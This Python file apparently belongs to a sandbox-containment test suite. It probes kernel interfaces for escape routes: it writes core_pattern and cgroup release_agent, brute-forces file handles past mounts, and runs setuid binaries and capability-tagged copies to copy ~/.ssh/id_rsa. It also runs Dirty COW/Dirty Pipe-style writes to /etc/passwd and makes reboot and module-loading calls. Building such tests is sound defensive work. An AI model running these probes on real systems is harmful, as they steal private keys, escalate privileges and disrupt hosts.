"""The kernel's own doors: devices, settings, old and new interfaces."""
import ctypes
import fcntl
import glob
import os
import resource
import stat
import struct

from hostile import HOME, MARK, SCRATCH, attempt, both, call, compiled, main, plant, read


def change_kernel_settings():
    program = f"|{SCRATCH}/x"
    values = {"kernel/core_pattern": program, "kernel/modprobe": f"{SCRATCH}/x", "vm/overcommit_memory": "2", "kernel/hotplug": f"{SCRATCH}/x",
              "kernel/domainname": "taken", "kernel/hostname": "taken", "kernel/yama/ptrace_scope": "0",
              "kernel/randomize_va_space": "0", "fs/binfmt_misc/register": f":x:E::{MARK}::{SCRATCH}/x:",
              "kernel/ns_last_pid": "1", "vm/drop_caches": "3", "net/ipv4/ip_forward": "1",
              "kernel/usermodehelper/bset": "0 0", "kernel/poweroff_cmd": f"{SCRATCH}/x"}
    for name, value in values.items():
        attempt(lambda: open(f"/proc/sys/{name}", "w").write(value))
    for name in ("/proc/sysrq-trigger", "/proc/self/attr/current", "/proc/1/oom_score_adj", "/proc/irq/default_smp_affinity"):
        attempt(lambda: open(name, "w").write("0"))


def crash_into_a_core_pattern():
    attempt(lambda: open("/proc/sys/kernel/core_pattern", "w").write(f"|/bin/cp {HOME}/.ssh/id_rsa {SCRATCH}"))
    attempt(resource.setrlimit, resource.RLIMIT_CORE, (0, 0))
    if os.fork() == 0:
        os.kill(os.getpid(), 11)
    os.wait()


def change_the_system_tree():
    for name in ("/sys/kernel/uevent_helper", "/sys/power/state", "/sys/module/apparmor/parameters/enabled",
                 "/sys/kernel/mm/transparent_hugepage/enabled", "/sys/firmware/acpi/hotplug/force_remove"):
        attempt(lambda: open(name, "w").write(f"{SCRATCH}/x"))
    for pattern in ("/sys/block/*/uevent", "/sys/class/net/*/mtu", "/sys/bus/*/drivers_probe"):
        for name in glob.glob(pattern)[:20]:
            attempt(lambda: open(name, "w").write("add"))


def use_debug_file_systems():
    for directory in ("/sys/kernel/debug", "/sys/kernel/tracing", "/sys/kernel/security", "/sys/fs/bpf",
                      "/sys/fs/pstore", "/sys/firmware/efi/efivars"):
        for name in attempt(os.listdir, directory) or []:
            attempt(lambda: open(f"{directory}/{name}", "a").write("x"))


def release_a_control_group():
    for top in ("/sys/fs/cgroup", *glob.glob("/sys/fs/cgroup/*/")):
        attempt(lambda: open(f"{top}/release_agent", "w").write(f"{SCRATCH}/x"))
        attempt(os.mkdir, f"{top}/{MARK}")
        for name in ("cgroup.procs", "notify_on_release", "cgroup.subtree_control", "cgroup.freeze", "cgroup.kill"):
            attempt(lambda: open(f"{top}/{name}", "w").write("1"))


def open_devices():
    for name in ("mem", "kmem", "port", "kmsg", "sda", "vda", "nvme0n1", "dm-0", "loop0", "loop-control", "fuse",
                 "kvm", "net/tun", "vhost-net", "uinput", "mapper/control", "cpu/0/msr", "console", "tty0", "vcs", "vsock"):
        attempt(lambda: read(f"/dev/{name}"))
        attempt(lambda: os.open(f"/dev/{name}", os.O_RDWR))


def make_devices():
    numbers = [tuple(map(int, open(path).read().split(":"))) for path in glob.glob("/sys/block/*/dev")]
    for index, (major, minor) in enumerate([*numbers, (1, 1), (1, 2), (8, 0), (254, 0), (10, 229)]):
        for kind in (stat.S_IFBLK, stat.S_IFCHR):
            for directory in (SCRATCH, "/dev", "/tmp", "/dev/shm"):
                path = f"{directory}/device{index}-{kind}"
                attempt(os.mknod, path, kind | 0o666, os.makedev(major, minor))
                attempt(read, path)


def read_kernel_memory():
    for name in ("/proc/kcore", "/proc/kmsg", "/proc/kallsyms", "/proc/iomem", "/proc/keys", "/proc/timer_list",
                 "/proc/slabinfo", "/proc/sched_debug", "/proc/vmallocinfo"):
        attempt(lambda: len(read(name)))
    buffer = ctypes.create_string_buffer(4096)
    attempt(call, "syslog", 3, ctypes.addressof(buffer), 4096)


def use_key_rings():
    attempt(call, "add_key", "user", MARK, "x", 1, -3)
    for ring in (-1, -2, -3, -4, -5):
        attempt(call, "keyctl", 0, ring, 1)
        attempt(call, "keyctl", 11, ring, 0, 0)
    attempt(call, "request_key", "user", MARK, "x", -3)


def use_io_uring():
    parameters = bytearray(120)
    attempt(call, "io_uring_setup", 8, parameters)
    compiled("uring_read", f"{HOME}/.ssh/id_rsa")


def use_programmable_interfaces():
    attempt(call, "bpf", 0, bytes(72), 72)
    attempt(call, "bpf", 5, bytes(128), 128)
    attempt(call, "perf_event_open", struct.pack("IIQ", 1, 112, 0) + bytes(96), 0, -1, -1, 0)
    attempt(call, "userfaultfd", 0)
    attempt(call, "userfaultfd", 1)
    attempt(os.open, "/dev/userfaultfd", os.O_RDWR)


def load_kernel_code():
    attempt(call, "init_module", b"\x7fELF", 4, "")
    attempt(call, "finit_module", 0, "", 0)
    attempt(call, "delete_module", "loop", 0)
    attempt(call, "kexec_load", 0, 0, 0, 0)
    for argv in (["modprobe", "loop"], ["insmod", f"{SCRATCH}/x.ko"], ["sysctl", "-w", "kernel.hostname=taken"]):
        attempt(os.spawnvp, os.P_WAIT, argv[0], argv)


def stop_the_machine():
    attempt(call, "reboot", 0xFEE1DEAD, 672274793, 0, 0)
    attempt(call, "swapoff", "/swapfile")
    attempt(call, "acct", f"{SCRATCH}/acct")


def open_by_handle():
    """The host's files by number, past the mounts, as containers were once left."""
    handle = bytearray(struct.pack("Ii", 128, 0) + bytes(128))
    buffer = ctypes.create_string_buffer(bytes(handle))
    mount_id = ctypes.c_int()
    attempt(call, "name_to_handle_at", -100, SCRATCH, ctypes.addressof(buffer), ctypes.addressof(mount_id), 0)
    top = os.open("/", os.O_RDONLY)
    size, kind = struct.unpack_from("Ii", buffer.raw)
    inode = struct.unpack_from("I", buffer.raw, 8)[0]
    for near in range(max(inode - 300, 1), inode + 300):
        struct.pack_into("I", buffer, 8, near)
        try:
            fd = call("open_by_handle_at", top, ctypes.addressof(buffer), os.O_RDONLY)
        except OSError:
            continue
        attempt(os.read, fd, 4096)


def gain_rights_by_set_user_id():
    for directory in ("/usr/bin", "/bin", "/usr/sbin", "/usr/lib/openssh"):
        for entry in attempt(os.scandir, directory) or ():
            if entry.is_file() and entry.stat().st_mode & (stat.S_ISUID | stat.S_ISGID):
                print(entry.path)
                if os.fork() == 0:
                    for fd in (0, 1, 2):
                        os.dup2(os.open("/dev/null", os.O_RDWR), fd)
                    attempt(os.execv, entry.path, [entry.name, "-c", f"cp {HOME}/.ssh/id_rsa {SCRATCH}"])
                    os._exit(0)
                os.wait()
    if os.path.exists(f"{SCRATCH}/set_user_id"):
        os.spawnv(os.P_WAIT, f"{SCRATCH}/set_user_id", ["cat", f"{HOME}/.ssh/id_rsa"])
    compiled("gain_rights", HOME)


def gain_rights_by_file_capability():
    copy = f"{SCRATCH}/python"
    with open(copy, "wb") as file:
        file.write(open("/bin/cat", "rb").read())
    os.chmod(copy, 0o755)
    attempt(os.setxattr, copy, "security.capability", struct.pack("<IIIII", 0x02000001, 0xFFFFFFFF, 0, 0xFFFFFFFF, 0))
    attempt(os.spawnv, os.P_WAIT, copy, ["cat", f"{HOME}/.ssh/id_rsa"])
    for name in ("trusted.x", "security.selinux", "system.posix_acl_access"):
        attempt(os.setxattr, f"{HOME}/.ssh", name, b"x")


def write_through_the_page_cache():
    """What CVE-2016-5195 and CVE-2022-0847 did: writing to a file that is only open for reading."""
    compiled("dirty_pages", f"{HOME}/.bashrc")
    compiled("dirty_pages", "/etc/passwd")


def type_into_the_terminal():
    for fd in (0, 1, 2):
        for request in (0x5412, 0x541C, 0x540E, 0x5412 | 1 << 32):
            attempt(call, "ioctl", fd, request, b"x")
    attempt(os.open, "/dev/tty", os.O_RDWR)
    for name in attempt(os.listdir, "/dev/pts") or []:
        attempt(lambda: open(f"/dev/pts/{name}", "w").write("x"))


def use_calls_of_other_conventions():
    compiled("old_convention", f"{HOME}/.ssh/id_rsa", f"{HOME}/sockets/stream")


def change_the_clock_and_quota():
    import time
    attempt(time.clock_settime, time.CLOCK_REALTIME, 0)
    attempt(call, "quotactl", 0x800002 << 8, "/dev/sda", 0, 0)
    attempt(lambda: fcntl.ioctl(os.open(f"{HOME}/.bashrc", os.O_RDONLY), 0x40086602, struct.pack("l", 0x10)))
    plant()


if __name__ == "__main__":
    main(globals())
